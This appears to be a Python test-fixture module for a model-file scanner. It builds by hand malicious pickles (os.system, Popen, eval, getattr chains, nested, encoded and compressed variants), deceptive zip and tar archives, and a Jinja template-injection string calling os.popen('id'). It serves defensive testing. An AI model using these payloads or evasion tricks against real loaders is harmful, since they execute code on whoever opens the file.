"""Pickles and files that attack whoever loads them, put together byte by byte; nothing here is ever loaded."""

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Mapping

import artifact_files as files

PROTO4 = b"\x80\x04"
MARK, STOP, REDUCE = b"(", b".", b"R"


def text(word: str) -> bytes:
    """A short text on the stack."""
    raw = word.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def octets(raw: bytes) -> bytes:
    """Bytes on the stack."""
    return b"B" + struct.pack("<I", len(raw)) + raw


def name(module: str, word: str) -> bytes:
    """An import by STACK_GLOBAL."""
    return text(module) + text(word) + b"\x93"


def old_name(module: str, word: str) -> bytes:
    """An import by GLOBAL."""
    return f"c{module}\n{word}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """A call by REDUCE."""
    return function + MARK + b"".join(arguments) + b"t" + REDUCE


def whole(body: bytes, proto: bytes = PROTO4) -> bytes:
    """A pickle of one value."""
    return proto + body + STOP


SYSTEM = name("os", "system")
EVIL = whole(call(SYSTEM, text("true")))
EVIL_OLD = b"cos\nsystem\n(S'true'\ntR."
_GETATTR = name("builtins", "getattr")
_IMPORT = name("builtins", "__import__")

# Each is a pickle whose loading does harm: form -> bytes.
MALICIOUS: dict[str, bytes] = {
    "global-reduce": EVIL_OLD,
    "stack-global": EVIL,
    "inst": b"(S'true'\nios\nsystem\n.",
    "obj": b"(cos\nsystem\nS'true'\no.",
    "newobj": whole(name("subprocess", "Popen") + text("true") + b"\x85\x81"),
    "newobj-ex": whole(name("subprocess", "Popen") + b")" + b"}" + text("args") + text("true") + b"s\x92"),
    "memo-names": PROTO4 + text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + text("true") + b"\x85R.",
    "put-get-names": b"Vos\np7\n0Vsystem\np9\n0g7\ng9\n\x93(Vtrue\ntR.",
    "unicode-escape-names": b"V\\u006fs\nVsyste\\u006d\n\x93(Vtrue\ntR.",
    "string-escape-names": b"S'\\x6f\\163'\nS'system'\n\x93(S'true'\ntR.",
    "binstring-names": b"U\x02osU\x06system\x93(U\x04truetR.",
    "dotted": whole(call(name("torch", "os.system"), text("true"))),
    "dotted-harmless-module": whole(call(name("torch._utils", "sys.modules"), text("true"))),
    "dunder-name": whole(call(name("collections", "OrderedDict.__init__.__globals__"), text("x"))),
    "getattr-chain": whole(call(call(_GETATTR, call(_IMPORT, text("os")), text("system")), text("true"))),
    "getattr-known": whole(call(call(_GETATTR, name("os", "path"), text("os")), text("true"))),
    "import-call": whole(call(_IMPORT, text("os"))),
    "eval": whole(call(name("builtins", "eval"), text("1"))),
    "exec-python2": b"c__builtin__\nexec\n(S'1'\ntR.",
    "compile": whole(call(name("builtins", "compile"), text("1"), text("x"), text("exec"))),
    "partial": whole(call(call(name("functools", "partial"), SYSTEM, text("true")))),
    "map": whole(call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, b"]" + text("true") + b"a"))),
    "attrgetter": whole(call(call(name("operator", "attrgetter"), text("system")), call(_IMPORT, text("os")))),
    "methodcaller": whole(call(name("operator", "methodcaller"), text("system"), text("true"))),
    "runpy": whole(call(name("runpy", "_run_code"), text("1"), b"}")),
    "marshal": whole(call(name("marshal", "loads"), octets(b"c" * 8))),
    "function-type": whole(call(call(name("types", "FunctionType"), call(name("marshal", "loads"), octets(b"c")), b"}"))),
    "socket": whole(call(name("socket", "create_connection"), text("203.0.113.1"))),
    "shutil": whole(call(name("shutil", "rmtree"), text("/nowhere"))),
    "ctypes": whole(call(name("ctypes", "CDLL"), text("libc.so.6"))),
    "webbrowser": whole(call(name("webbrowser", "open"), text("https://example.org"))),
    "pickle-loads": whole(call(name("_pickle", "loads"), octets(EVIL))),
    "torch-load": whole(call(name("torch", "load"), text("other.pt"))),
    "numpy-load": whole(call(name("numpy", "load"), text("other.npy"))),
    "numpy-runstring": whole(call(name("numpy.testing._private.utils", "runstring"), text("1"), b"}")),
    "idlelib": whole(call(name("idlelib.run", "Executive.runcode"), text("1"))),
    "unknown-eval": whole(call(name("somelibrary.expressions", "safe_eval"), text("1"))),
    "unknown-with-code": whole(call(name("somelibrary.tools", "apply_to"), text("__import__('os').system('true')"))),
    "build-on-import": whole(name("torch._utils", "_rebuild_tensor") + b"}" + text("__code__") + text("x") + b"sb"),
    "build-changes-module": whole(name("torch", "_utils") + b"}" + text("a") + text("b") + b"sb"),
    "computed-name": PROTO4 + call(name("builtins", "str"), octets(b"os"), text("ascii")) + text("system") + b"\x93.",
    "setitem-on-modules": whole(name("sys", "modules") + text("torch") + name("os", "path") + b"s"),
    "after-stop": whole(b"N") + EVIL,
    "after-stop-old": whole(b"N") + EVIL_OLD,
    "popped": PROTO4 + call(SYSTEM, text("true")) + b"0N.",
    "popped-mark": PROTO4 + MARK + call(SYSTEM, text("true")) + b"1N.",
    "broken-after": PROTO4 + call(SYSTEM, text("true")) + b"\xff\xff",
    "cut-after": PROTO4 + call(SYSTEM, text("true")),
    "nested-bytes": whole(octets(EVIL)),
    "nested-text": whole(text(EVIL_OLD.decode())),
    "nested-base64": whole(text(base64.b64encode(EVIL).decode())),
    "nested-hex": whole(text(EVIL.hex())),
    "nested-twice": whole(octets(whole(octets(EVIL)))),
    "nested-long": whole(octets(whole(text("x" * 3000) + b"0" + call(SYSTEM, text("true"))))),
    "proto-zero": b"\x80\x00" + call(SYSTEM, text("true")) + b".",
    "proto-in-the-middle": PROTO4 + text("os") + b"\x80\x02" + text("system") + b"\x93" + text("x") + b"\x85R.",
    "frame-lies": PROTO4 + b"\x95" + struct.pack("<Q", 1) + call(SYSTEM, text("true")) + b".",
    "dup-name": PROTO4 + SYSTEM + b"2" + text("true") + b"\x85R0.",
    "joblib-hidden": b"",  # made below
    "dill-import": whole(call(name("dill._dill", "_import_module"), text("os"))),
    "cloudpickle-subimport": whole(call(name("cloudpickle.cloudpickle", "subimport"), text("os"))),
    "legacy-checkpoint": files.legacy_checkpoint(evil=True),
}  # fmt: skip


def joblib_array(payload: bytes, *, padded: bool = False) -> bytes:
    """What joblib writes for an array of bytes: a description, and the raw elements between the opcodes."""
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    wrapper += (
        text("subclass") + name("numpy", "ndarray") + text("shape") + b"J" + struct.pack("<i", len(payload)) + b"\x85"
    )
    wrapper += text("order") + text("C")
    wrapper += text("dtype") + call(name("numpy", "dtype"), text("u1"), b"\x89", b"\x88")
    wrapper += text("allow_mmap") + b"\x88"
    wrapper += text("numpy_array_alignment_bytes") + (b"K\x10" if padded else b"N") + b"ub"
    return PROTO4 + wrapper + (b"\x03\xff\xff\xff" if padded else b"") + payload + b"."


MALICIOUS["joblib-hidden"] = joblib_array(call(old_name("os", "system"), text("true")) + b"0N.")

# Not known to do harm, and not known to be harmless either.
REVIEW: dict[str, bytes] = {
    "unknown-class": whole(name("sklearn.linear_model._base", "LinearRegression") + b")\x81}b"),
    "unknown-import": whole(name("mylibrary.models", "Net")),
    "extension": b"\x80\x02\x82\x07.",
    "foreign-persistent-id": PROTO4 + text("elsewhere") + b"Q.",
    "bytecode": whole(call(name("dill._dill", "_create_function"), b"N", b"}")),
    "nested-harmless": whole(octets(pickle.dumps({"a": [1, 2, 3]}, 4))),
    "buffer": b"\x80\x05\x97.",
    "trailing": whole(b"N") + b"something else entirely",
    "codec": whole(call(name("_codecs", "encode"), text("x"), text("rot13"))),
    "reserves": whole(call(name("builtins", "bytearray"), b"J\xff\xff\xff\x7f")),
    "known-getattr": whole(call(_GETATTR, name("mylibrary", "Colour"), text("RED"))),
}

UNREADABLE: dict[str, bytes] = {
    "truncated": pickle.dumps({"weights": list(range(400))}, 4)[:-30],
    "no-opcode": b"\x80\x04]\xfe.",
    "empty-stack": b"\x80\x04R.",
    "announced": b"\x80\x04\x8e" + b"\xff" * 8 + b"x.",
    "protocol-9": b"\x80\x04\x80\x09N.",
    "memo-index": b"\x80\x04Nr\xff\xff\xff\x7f.",
}

SAFE: dict[str, bytes] = {
    "plain": pickle.dumps({"a": [1, 2.5, "x", None, True], "b": (1, {2, 3}, b"xyz")}, 4),
    "old": pickle.dumps([{"a": "b"}, 10**30, "ü"], 0),
    "legacy-checkpoint": files.legacy_checkpoint(),
    "state-dict": files.torch_pickle(),
    "joblib-array": joblib_array(bytes(range(40))),
    "joblib-padded": joblib_array(bytes(range(40)), padded=True),
    "base64-of-nothing": pickle.dumps({"weights": base64.b64encode(bytes(range(200))).decode()}, 4),
    "numpy-array": whole(
        call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\x00\x85", octets(b"b"))
        + MARK + b"K\x01K\x02\x85" + call(name("numpy", "dtype"), text("u1")) + b"\x89" + octets(b"ab") + b"tb"
    ),
    "python2-str": b"\x80\x02}q\x00U\x06weightq\x01K\x01s.",
}  # fmt: skip


def zipped(entries: list[tuple[str, bytes]]) -> bytes:
    """An archive of stored entries, two of which may have one name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the second entry of a name is what is wanted
        for entry, data in entries:
            archive.writestr(zipfile.ZipInfo(entry), data)
    return out.getvalue()


def hidden_entry(data: bytes) -> bytes:
    """An archive in which a local header stands that the directory does not list."""
    inside = zipped([("hidden.pkl", data)])
    head = inside[: inside.index(b"PK\x01\x02")]
    return head + files.packed({"a.txt": b"text"})


def flagged(data: bytes, flag: int) -> bytes:
    """An archive whose entries claim a general purpose flag in both headers."""
    made = bytearray(data)
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(magic)
        while at >= 0:
            made[at + offset] |= flag
            at = made.find(magic, at + 4)
    return bytes(made)


def renamed_locally(data: bytes, old: bytes, new: bytes) -> bytes:
    """An archive in which the first entry is called otherwise before its own bytes."""
    at = data.index(old)
    return data[:at] + new + data[at + len(old) :]


def damaged_checksum(data: bytes) -> bytes:
    """An archive with a wrong checksum in both headers."""
    made = bytearray(data)
    made[made.index(b"PK\x03\x04") + 14] ^= 0xFF
    made[made.index(b"PK\x01\x02") + 16] ^= 0xFF
    return bytes(made)


def tarred(members: Mapping[str, bytes], link: tuple[str, str] | None = None) -> bytes:
    """A tar archive, with a link where one is asked for."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for member, data in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        if link is not None:
            info = tarfile.TarInfo(link[0])
            info.type, info.linkname = tarfile.SYMTYPE, link[1]
            archive.addfile(info)
    return out.getvalue()


def gguf_with_template(template: str) -> bytes:
    """A GGUF file that brings a chat template."""
    extra = files.text("tokenizer.chat_template") + struct.pack("<I", 8) + files.text(template)
    return files.gguf(extra=extra, pairs=1)


HDF5 = b"\x89HDF\r\n\x1a\n"


def keras_hdf5(config: Mapping[str, object]) -> bytes:
    """The beginning of an HDF5 file with a configuration as h5py stores it: one text in a heap."""
    return b"\x89HDF\r\n\x1a\n" + bytes(40) + b"model_config\0\0\0\0" + json.dumps(config).encode() + bytes(100)


def keras(*, layer: str = "Dense", module: str = "keras.layers") -> bytes:
    """A Keras 3 archive of one layer, with its weights."""
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [
        {"module": module, "class_name": layer, "config": {"name": "l"}, "registered_name": None}]}}  # fmt: skip
    entries = {"metadata.json": b"{}", "config.json": json.dumps(config).encode(), "model.weights.h5": HDF5 + bytes(90)}
    return files.packed(entries)


def lambda_layer(body: bytes = b"\xe3plain") -> dict[str, object]:
    """A Keras model with a Lambda layer of some bytecode."""
    code = base64.b64encode(body).decode() + "\n"
    layer = {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None]}}
    return {"class_name": "Sequential", "config": {"layers": [layer]}}


STREAMS = {
    "model.pkl.gz": gzip.compress(EVIL),
    "model.pkl.bz2": bz2.compress(EVIL),
    "model.pkl.xz": lzma.compress(EVIL),
    "model.pkl.z": zlib.compress(EVIL),
    "model.joblib": zlib.compress(EVIL),
}
TEMPLATE = "{% for m in messages %}{{ m['content'] }}{% endfor %}"
TEMPLATE_EVIL = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
